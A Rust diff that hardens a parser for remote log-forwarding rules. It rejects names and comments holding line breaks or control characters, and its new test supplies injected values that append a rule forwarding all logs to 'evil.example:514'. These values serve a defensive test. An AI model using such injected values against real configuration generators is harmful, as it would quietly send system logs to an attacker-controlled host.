@@ -83,6 +83,13 @@ pub fn parse(line: &str, name: &str) -> Result<Remote, Refused> {
     } else {
         Some(name.to_string())
     };
+    // The name ends the rule as a `#` comment, which runs to the end of its line only.
+    if name
+        .as_deref()
+        .is_some_and(|n| n.chars().any(char::is_control))
+    {
+        return Err("the name or comment holds a line break or control character");
+    }
     Ok(Remote {
         name,
         filter: filter.unwrap_or("*.*").to_string(),
@@ -109,6 +116,20 @@ fn port_part(after: &str) -> Result<Option<u32>, Refused> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// The remote's name and a line's comment end the rule as `# text`: one holding a line
+    /// break (or another control character) would add a rule of its own; refused.
+    #[test]
+    fn names_and_comments_with_line_breaks_are_refused() {
+        for (line, name) in [
+            ("10.0.0.1", "n\n*.* @@evil.example:514"),
+            ("10.0.0.1 # c\n*.* @@evil.example:514", ""),
+            ("10.0.0.1 # c\r*.* @@evil.example", ""),
+            ("10.0.0.1", "n\0"),
+        ] {
+            assert!(parse(line, name).is_err(), "{line:?} {name:?}");
+        }
+    }
 
     #[test]
     fn lines_as_cloud_init_writes_them() {
